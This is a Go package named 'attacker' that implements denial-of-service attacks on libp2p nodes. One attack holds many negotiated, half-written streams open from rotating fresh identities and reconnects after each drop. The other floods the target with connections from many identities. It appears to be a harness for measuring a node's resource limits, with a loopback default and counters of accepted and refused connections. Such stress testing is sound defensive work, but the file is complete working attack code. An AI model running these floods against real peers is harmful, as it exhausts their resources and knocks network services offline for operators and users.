package attacker

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/libp2p/go-libp2p/p2p/transport/tcp"
	ma "github.com/multiformats/go-multiaddr"
	msmux "github.com/multiformats/go-multistream"
)

// Figures are what an attack achieved, as the attacker saw it.
type Figures struct {
	Identities    int64 `json:"identities"`     // hosts started
	ConnsAccepted int64 `json:"conns_accepted"` // connections that came up
	ConnsRefused  int64 `json:"conns_refused"`  // dials that failed
	ConnsDropped  int64 `json:"conns_dropped"`  // accepted, later closed by the target
	Streams       int64 `json:"streams_accepted"`
	StreamsRefuse int64 `json:"streams_refused"` // open or negotiation refused
	StreamsReset  int64 `json:"streams_reset"`   // negotiated, then reset by the target
	MaxHeld       int64 `json:"max_streams_held"`
}

type counters struct {
	identities, connsOK, connsRefused, connsDropped atomic.Int64
	streamsOK, streamsRefused, streamsReset, held   atomic.Int64
	maxHeld                                         atomic.Int64
}

func (c *counters) figures() Figures {
	return Figures{
		Identities: c.identities.Load(), ConnsAccepted: c.connsOK.Load(), ConnsRefused: c.connsRefused.Load(),
		ConnsDropped: c.connsDropped.Load(), Streams: c.streamsOK.Load(), StreamsRefuse: c.streamsRefused.Load(),
		StreamsReset: c.streamsReset.Load(), MaxHeld: c.maxHeld.Load(),
	}
}

func (c *counters) hold(d int64) {
	n := c.held.Add(d)
	for {
		m := c.maxHeld.Load()
		if n <= m || c.maxHeld.CompareAndSwap(m, n) {
			return
		}
	}
}

// newHost starts an attacking identity: a fresh key, TCP only, listening
// on src so that its dials leave from src (TCP port reuse), no resource
// limits of its own.
func newHost(src string) (host.Host, error) {
	return libp2p.New(
		libp2p.ListenAddrStrings(fmt.Sprintf("/ip4/%s/tcp/0", src)),
		libp2p.Transport(tcp.NewTCPTransport),
		libp2p.ResourceManager(&network.NullResourceManager{}),
		libp2p.DisableRelay(),
		libp2p.DisableMetrics(),
		libp2p.Ping(false),
	)
}

// tcpOnly keeps the target's TCP addresses (the attackers dial TCP).
func tcpOnly(ai peer.AddrInfo) peer.AddrInfo {
	out := peer.AddrInfo{ID: ai.ID}
	for _, a := range ai.Addrs {
		if _, err := a.ValueForProtocol(ma.P_TCP); err == nil {
			out.Addrs = append(out.Addrs, a)
		}
	}
	return out
}

// StreamsConfig is a stream-holding attack.
type StreamsConfig struct {
	Target     peer.AddrInfo
	Protocol   protocol.ID
	Sources    []string      // source IPs, used in turn by the identities (default 127.0.0.1)
	Identities int           // identities attacking at once
	Streams    int           // streams each identity keeps open
	Reopen     time.Duration // each stream is replaced after this long (default 8 s)
	// MaxIdentities bounds the identities used in all (each one the target
	// disconnects is replaced by a fresh one). Default 4 × Identities.
	MaxIdentities int
}

// StreamAttack is a running stream-holding attack.
type StreamAttack struct {
	c  counters
	wg sync.WaitGroup
}

// Figures returns the attack's figures so far.
func (s *StreamAttack) Figures() Figures { return s.c.figures() }

// Held is how many streams the attack holds now.
func (s *StreamAttack) Held() int64 { return s.c.held.Load() }

// Wait waits until the attack has stopped (ctx ended, or MaxIdentities
// used) and returns its figures.
func (s *StreamAttack) Wait() Figures {
	s.wg.Wait()
	return s.c.figures()
}

// Streams starts the attack; it runs until ctx ends. Each identity
// connects, opens Streams streams of Protocol, negotiates each (so the
// target has it in the protocol's scope), writes one byte of a frame
// header and holds it; a target that drops the connection sees a fresh
// identity come back, up to MaxIdentities.
func Streams(ctx context.Context, cfg StreamsConfig) *StreamAttack {
	if len(cfg.Sources) == 0 {
		cfg.Sources = []string{"127.0.0.1"}
	}
	if cfg.Reopen == 0 {
		cfg.Reopen = 8 * time.Second
	}
	if cfg.MaxIdentities == 0 {
		cfg.MaxIdentities = 4 * cfg.Identities
	}
	target := tcpOnly(cfg.Target)
	sa := &StreamAttack{}
	var budget atomic.Int64
	budget.Store(int64(cfg.MaxIdentities))
	for i := range cfg.Identities {
		sa.wg.Add(1)
		go func() {
			defer sa.wg.Done()
			src := cfg.Sources[i%len(cfg.Sources)]
			for ctx.Err() == nil && budget.Add(-1) >= 0 {
				holdStreams(ctx, &sa.c, src, target, cfg)
			}
		}()
	}
	return sa
}

// holdStreams is one identity's life: it returns when the target dropped
// it or ctx ended.
func holdStreams(ctx context.Context, c *counters, src string, target peer.AddrInfo, cfg StreamsConfig) {
	h, err := newHost(src)
	if err != nil {
		return
	}
	defer h.Close()
	c.identities.Add(1)
	dctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	err = h.Connect(dctx, target)
	cancel()
	if err != nil {
		c.connsRefused.Add(1)
		pause(ctx, 100*time.Millisecond)
		return
	}
	c.connsOK.Add(1)
	gone := make(chan struct{})
	var once sync.Once
	h.Network().Notify(&network.NotifyBundle{DisconnectedF: func(n network.Network, conn network.Conn) {
		if n.Connectedness(target.ID) != network.Connected {
			once.Do(func() { close(gone) })
		}
	}})
	if h.Network().Connectedness(target.ID) != network.Connected {
		once.Do(func() { close(gone) })
	}
	// A few negotiations at a time: streams still negotiating sit in the
	// target's transient scope, and piling them up there would only
	// refuse the attacker's own.
	opening := make(chan struct{}, 16)
	var wg sync.WaitGroup
	for range cfg.Streams {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				select {
				case <-gone:
					return
				default:
				}
				if !holdOne(ctx, c, h, target.ID, cfg, gone, opening) {
					pause(ctx, 200*time.Millisecond)
				}
			}
		}()
	}
	wg.Wait()
	select {
	case <-gone:
		c.connsDropped.Add(1)
	default:
	}
}

// holdOne opens one stream and holds it for Reopen; false when refused.
func holdOne(ctx context.Context, c *counters, h host.Host, p peer.ID, cfg StreamsConfig, gone <-chan struct{}, opening chan struct{}) bool {
	select {
	case opening <- struct{}{}:
	case <-gone:
		return true
	case <-ctx.Done():
		return true
	}
	s, ok := openOne(ctx, c, h, p, cfg.Protocol)
	<-opening
	if !ok {
		return false
	}
	defer s.Reset()
	c.streamsOK.Add(1)
	c.hold(1)
	defer c.hold(-1)
	// A reset by the target ends the read; otherwise hold for Reopen.
	read := make(chan error, 1)
	go func() {
		_, err := s.Read(make([]byte, 1))
		read <- err
	}()
	t := time.NewTimer(cfg.Reopen)
	defer t.Stop()
	select {
	case err := <-read:
		if err != nil && !errors.Is(err, context.Canceled) {
			c.streamsReset.Add(1)
		}
		return true
	case <-t.C:
	case <-gone:
	case <-ctx.Done():
	}
	s.Reset()
	<-read
	return true
}

// openOne opens and negotiates a stream and writes one byte of a frame.
func openOne(ctx context.Context, c *counters, h host.Host, p peer.ID, proto protocol.ID) (network.Stream, bool) {
	sctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	s, err := h.Network().NewStream(network.WithNoDial(sctx, "attack"), p)
	if err != nil {
		c.streamsRefused.Add(1)
		return nil, false
	}
	_ = s.SetDeadline(time.Now().Add(5 * time.Second))
	if err := msmux.SelectProtoOrFail(proto, s); err != nil {
		s.Reset()
		c.streamsRefused.Add(1)
		return nil, false
	}
	if _, err := s.Write([]byte{0}); err != nil {
		s.Reset()
		c.streamsReset.Add(1)
		return nil, false
	}
	_ = s.SetDeadline(time.Time{})
	return s, true
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// ConnsConfig is a connection flood.
type ConnsConfig struct {
	Target     peer.AddrInfo
	Sources    []string
	Identities int // identities that connect, each once
	Parallel   int // dials at once (default 16)
}

// Flood is a running connection flood.
type Flood struct {
	c     counters
	wg    sync.WaitGroup
	mu    sync.Mutex
	hosts []host.Host
	done  chan struct{}
}

// Conns starts a flood: Identities fresh identities connect to Target,
// Parallel at a time, and hold their connections until Close. Dialled is
// closed when every identity has dialled.
func Conns(ctx context.Context, cfg ConnsConfig) *Flood {
	if len(cfg.Sources) == 0 {
		cfg.Sources = []string{"127.0.0.1"}
	}
	if cfg.Parallel == 0 {
		cfg.Parallel = 16
	}
	target := tcpOnly(cfg.Target)
	f := &Flood{done: make(chan struct{})}
	sem := make(chan struct{}, cfg.Parallel)
	f.wg.Add(1)
	go func() {
		defer f.wg.Done()
		defer close(f.done)
		var wg sync.WaitGroup
		for i := range cfg.Identities {
			select {
			case sem <- struct{}{}:
			case <-ctx.Done():
			}
			if ctx.Err() != nil {
				break
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer func() { <-sem }()
				f.dial(ctx, cfg.Sources[i%len(cfg.Sources)], target)
			}()
		}
		wg.Wait()
	}()
	return f
}

func (f *Flood) dial(ctx context.Context, src string, target peer.AddrInfo) {
	h, err := newHost(src)
	if err != nil {
		return
	}
	f.c.identities.Add(1)
	f.mu.Lock()
	f.hosts = append(f.hosts, h)
	f.mu.Unlock()
	h.Network().Notify(&network.NotifyBundle{DisconnectedF: func(n network.Network, conn network.Conn) {
		if conn.RemotePeer() == target.ID && n.Connectedness(target.ID) != network.Connected {
			f.c.connsDropped.Add(1)
		}
	}})
	dctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	if err := h.Connect(dctx, target); err != nil {
		f.c.connsRefused.Add(1)
		return
	}
	f.c.connsOK.Add(1)
}

// Dialled is closed once every identity has dialled.
func (f *Flood) Dialled() <-chan struct{} { return f.done }

// Figures returns the flood's figures so far.
func (f *Flood) Figures() Figures { return f.c.figures() }

// Held counts the identities still connected to p.
func (f *Flood) Held(p peer.ID) int {
	f.mu.Lock()
	defer f.mu.Unlock()
	n := 0
	for _, h := range f.hosts {
		if h.Network().Connectedness(p) == network.Connected {
			n++
		}
	}
	return n
}

// Close waits for the dials and closes every attacking host.
func (f *Flood) Close() {
	f.wg.Wait()
	f.mu.Lock()
	hosts := f.hosts
	f.hosts = nil
	f.mu.Unlock()
	var wg sync.WaitGroup
	for _, h := range hosts {
		wg.Add(1)
		go func() {
			defer wg.Done()
			h.Close()
		}()
	}
	wg.Wait()
}
